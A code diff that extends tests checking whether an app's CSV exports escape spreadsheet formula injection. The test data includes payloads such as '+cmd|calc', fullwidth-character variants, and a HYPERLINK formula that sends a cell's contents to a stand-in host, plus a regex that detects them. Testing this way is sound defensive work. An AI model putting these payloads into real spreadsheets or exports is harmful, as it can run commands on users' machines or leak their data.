@@ -11,7 +11,11 @@ import { openStore } from '#app/server/backend/embedded/store/store.ts';
 import { ops, opsJson } from '#tests/ops.ts';
 
 /** Texts that a spreadsheet would run, and texts that would break a line. */
-const HOSTILE = ['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a,"b"', 'two\nlines', "O'Neil", '1-2'];
+const HOSTILE = [
+  ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
+  ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
+];
+const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
 /** More than two batches. */
 const COUNT = 1203;
 
@@ -24,7 +28,8 @@ beforeAll(async () => {
   const store = await openStore({ kind: 'sqlite', file: join(env.DATA_DIR as string, 'hearthline.db') }, log);
   const person = { lastName: 'Quill', phone: '+1 302 555 0177', smsConsent: true, marketingConsent: false };
   for (const [index, firstName] of HOSTILE.entries()) {
-    await insertMessage(store.db, { ...person, firstName, email: `ada${index}@agents.example` }, 'x.example', form);
+    const hostile = { ...form, userAgent: firstName };
+    await insertMessage(store.db, { ...person, firstName, email: `ada${index}@agents.example` }, 'x.example', hostile);
   }
   for (const email of ['Bo@Agents.Example', 'bo@agents.example', 'bo+other@agents.example']) {
     await insertMessage(store.db, { ...person, firstName: 'Bo', email }, 'x.example', form);
@@ -32,28 +37,35 @@ beforeAll(async () => {
   await store.db.transaction().execute(async (db) => {
     for (let index = 0; index < COUNT; index++) {
       const review = { firstName: 'Cy', lastName: 'Reed', companyName: '', jobTitle: 'Broker', rating: 5 };
-      await insertReview(db, { ...review, reviewDescription: `Review ${index}`, date: '2025-03-04T05:06:07Z' });
+      const reviewDescription = HOSTILE[index] ?? `Review ${index}`;
+      await insertReview(db, { ...review, reviewDescription, date: '2025-03-04T05:06:07Z' });
     }
   });
   const ledger = createLedger(store.db, log, () => Date.parse('2025-03-04T05:06:07Z'));
-  const order = { provider: 'paypal', owner: null, plan: PLANS[0] as Plan, customer: null };
+  const order = { provider: 'paypal', owner: null, plan: PLANS[0] as Plan };
+  const buyer = { lastName: 'Vale', email: 'di@agents.example', phone: '', address: '', city: 'Lewes', state: 'DE' };
   // All of one moment: the batches must not lose any at their seams.
   for (let index = 0; index < COUNT; index++) {
-    await ledger.open({ ...order, orderID: `ORDER-${index}`, invoiceId: `I-${index}` });
+    const customer = { ...buyer, firstName: HOSTILE[index] ?? 'Di' };
+    await ledger.open({ ...order, customer, orderID: `ORDER-${index}`, invoiceId: `I-${index}` });
   }
   await store.close();
 }, 60_000);
 afterAll(() => rmSync(env.DATA_DIR as string, { recursive: true }));
 
-test('a CSV holds every text as text: nothing in it is a formula', async () => {
-  const { code, out, err } = await ops(['messages', 'export', '--csv'], env);
+test.each([
+  ['messages', 'firstName'],
+  ['reviews', 'reviewDescription'],
+  ['payments', 'firstName'],
+  ['consents', 'userAgent'],
+])('%s export --csv holds every text as text: nothing in it is a formula', async (noun, field) => {
+  const { code, out, err } = await ops([noun, 'export', '--csv'], env);
   expect({ code, err }).toEqual({ code: 0, err: '' });
   const [header = [], ...rows] = parseCsv(out);
-  expect(header.slice(0, 5)).toEqual(['id', 'createdAt', 'status', 'firstName', 'lastName']);
-  expect(rows.slice(0, HOSTILE.length).map((row) => row[3])).toEqual(
-    HOSTILE.map((text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)),
-  );
-  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  expect(header.slice(0, 2)).toEqual(['id', 'createdAt']);
+  const cells = rows.map((row) => row[header.indexOf(field)]);
+  for (const text of HOSTILE) expect(cells).toContain(FORMULA.test(text) ? `'${text}` : text);
+  expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
   expect(rows.every((row) => row.length === header.length)).toBe(true);
 });
 
@@ -88,7 +100,10 @@ test("a privacy request deletes a person's messages and mails, and leaves the pr
   expect(left).toHaveLength(HOSTILE.length + 1);
   expect(left.at(-1)).toBe('bo+other@agents.example');
   expect(await opsJson(['outbox', 'list'], env)).toHaveLength(HOSTILE.length + 1);
-  expect(await ops(['consents', 'verify'], env)).toMatchObject({ code: 0, out: expect.stringContaining('All 13') });
+  expect(await ops(['consents', 'verify'], env)).toMatchObject({
+    code: 0,
+    out: expect.stringContaining(`All ${HOSTILE.length + 3}`),
+  });
   expect(
     (await opsJson(['consents', 'export'], env)).filter(({ email }) => email === 'bo@agents.example'),
   ).toHaveLength(1);
